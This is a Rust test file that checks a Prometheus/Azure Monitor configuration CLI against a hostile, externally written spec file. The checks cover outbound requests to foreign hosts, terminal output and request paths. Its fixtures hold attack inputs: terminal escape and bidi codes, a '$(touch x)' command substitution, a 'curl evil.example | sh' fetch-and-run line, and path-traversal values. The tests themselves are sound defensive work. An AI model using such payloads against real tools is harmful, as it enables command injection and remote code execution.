//! A folder whose `amw-rw.yaml` was written by another person: no command sends anything to its hosts, or shows its text as it is.

use super::files::FACTS;
use super::verdict::is_obeyed;
use crate::support::{ForeignHost, World, foreign_host};

/// In a double-quoted scalar of YAML.
const FORGED: &str =
    r#"a\e[2J\a\r\x7f\u009b31m\u202e'\"`;$(touch x)\n  next:    curl evil.example | sh\n"#;

const SIDECAR: &str = "\
remote_write:
  - url: http://localhost:8081/api/v1/write
global:
  external_labels: {cluster: prod}
";

/// Commands that can meet such a file.
const COMMANDS: [&str; 9] = [
    "render --target prometheus-yml FACTS",
    "render --target custom-resource --prometheus monitoring/k8s FACTS",
    "render --target prometheus-yml --companions FACTS",
    "migrate --input sidecar.yml --auth user-identity --client-id 11111111-1111-1111-1111-111111111111 --diff",
    "migrate --prometheus release:x",
    "doctor",
    "doctor -o json",
    "apply --yes",
    "init --yes",
];

#[test]
fn no_command_sends_anything_to_the_hosts_of_a_found_spec() {
    let host = ForeignHost::new();
    for field in foreign_host::FIELDS {
        let spec = format!(
            "{field}: {}\nconnections:\n- cluster: aks-prod\n",
            host.url()
        );
        let world = World::new()
            .file("amw-rw.yaml", &spec)
            .file("sidecar.yml", SIDECAR)
            .with_service_principal();
        for command in COMMANDS {
            let outcome = world.run_alone(&command.replace("FACTS", FACTS));

            judge(outcome.stderr(), outcome.stdout(), command);
        }
    }
    host.was_not_asked();
}

#[test]
fn no_value_of_a_found_spec_reaches_a_terminal_as_it_is() {
    for field in [
        "subscription",
        "tenant",
        "cluster",
        "prometheus",
        "cluster-label",
        "workspace",
        "region",
        "auth",
        "queue",
        "input",
        "out",
        "a\\e[2Jb",
    ] {
        let line = format!("\"{field}\": \"{FORGED}\"");
        let spec = match field {
            "subscription" | "tenant" => format!("{line}\nconnections:\n- cluster: aks-prod\n"),
            _ => format!("connections:\n- {line}\n"),
        };
        let mut world = World::new()
            .file("amw-rw.yaml", &spec)
            .file("sidecar.yml", SIDECAR);
        for command in COMMANDS {
            let outcome = world.run(&command.replace("FACTS", FACTS));

            judge(
                outcome.stderr(),
                outcome.stdout(),
                &format!("{field}, {command}"),
            );
        }
        assert!(!world.path("x").exists());
    }
}

#[test]
fn no_name_of_a_found_spec_changes_the_path_of_a_request() {
    for (field, value) in [
        ("tenant", ".."),
        ("tenant", "a/b"),
        ("service-account", "../../x/y"),
        ("service-account", "a/../../secrets/x"),
        ("service-account", "a:b/c"),
        ("prometheus", "../x"),
        ("prometheus", "a/b?c"),
        ("prometheus", "release:a/.."),
        (
            "workspace",
            "/subscriptions/S/resourceGroups/%2e%2e/providers/Microsoft.Monitor/accounts/b",
        ),
        (
            "cluster",
            "/subscriptions/S/resourceGroups/a/../../providers/Microsoft.ContainerService/managedClusters/b",
        ),
    ] {
        let entry = format!("{field}: '{value}'");
        let spec = match field {
            "tenant" => format!("{entry}\nconnections:\n- cluster: aks-prod\n"),
            _ => format!("connections:\n- {entry}\n"),
        };
        let mut world = World::new().file("amw-rw.yaml", &spec);
        for command in [
            "plan --auth workload-identity",
            "init --yes --auth workload-identity",
        ] {
            let outcome = world.run(command);

            judge(outcome.stderr(), outcome.stdout(), &entry);
            assert_eq!(
                outcome.code(),
                Some(2),
                "{entry}, {command}: {}",
                outcome.stderr()
            );
        }
        let requests = world.requests();
        let odd = requests.iter().find(|request| request.path.contains(".."));
        assert!(odd.is_none(), "{entry}");
        assert!(world.writes().is_empty(), "{entry}");
    }
}

#[track_caller]
fn judge(stderr: &str, stdout: &str, what: &str) {
    for text in [stderr, stdout] {
        let obeyed = text.chars().find(is_obeyed);
        assert_eq!(obeyed, None, "{what}: {text:?}");
        let is_forged = |line: &str| line.trim_start().starts_with("next:    curl");
        assert!(!text.lines().any(is_forged), "{what}: {text}");
    }
    assert!(
        !stderr.contains("a bug in this program"),
        "{what}: {stderr}"
    );
    let has_next = !stderr.contains("error:") || stderr.contains("next:");
    assert!(has_next, "{what}: {stderr}");
}
